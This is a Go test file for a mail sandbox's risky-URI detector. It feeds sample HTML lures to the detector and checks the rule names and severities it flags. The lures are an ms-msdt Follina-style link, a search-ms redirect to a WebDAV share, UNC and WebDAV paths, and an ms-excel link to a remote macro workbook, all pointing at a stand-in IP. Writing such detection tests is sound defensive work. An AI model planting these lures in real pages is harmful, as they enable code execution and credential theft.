package script

import (
	"testing"

	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
	"github.com/airlockmail/airlock/verdict"
)

func TestRiskyURIs(t *testing.T) {
	for _, tc := range []struct {
		page string
		rule string
		min  verdict.Severity
	}{
		{`<a href="ms-msdt:/id PCWDiagnostic /skip force">x</a>`, "risky-uri-ms-msdt", verdict.Critical},
		{`<script>location.href = 'search-ms:query=a&crumb=location:\\\\198.51.100.1@80\\DavWWWRoot\\x'</script>`, "risky-uri-search-ms", verdict.High},
		{`<img src="\\198.51.100.1\share\p.png">`, "risky-uri-unc", verdict.High},
		{`<a href = "https://198.51.100.1@SSL/DavWWWRoot/x.lnk">x</a>`, "risky-uri-webdav", verdict.High},
		{`<iframe src="ms-excel:ofe|u|https://198.51.100.1/a.xlsm"></iframe>`, "risky-uri-ms-excel", verdict.High},
	} {
		f := &rules.Findings{Analyzer: "script"}
		riskyURIs(tc.page, f)
		ok := false
		for _, x := range f.List() {
			ok = ok || x.Rule == tc.rule && x.Severity >= tc.min && x.Evidence != ""
		}
		if !ok {
			t.Errorf("%s: want %s >= %s, got %+v", tc.page, tc.rule, tc.min, f.List())
		}
	}
	for _, page := range []string{
		`<p>Search: type a name. File: attach it. See ms-word docs.</p>`,
		`<a href="https://example.org/search?q=ms-msdt">about Follina</a>`,
		`<script src="//cdn.example.org/a.js"></script><a href="mailto:a@example.org">m</a>`,
		`<script>var p = "C:\\Users\\Public";</script>`,
	} {
		f := &rules.Findings{Analyzer: "script"}
		riskyURIs(page, f)
		if len(f.List()) > 0 {
			t.Errorf("%s: want nothing, got %+v", page, f.List())
		}
	}
}
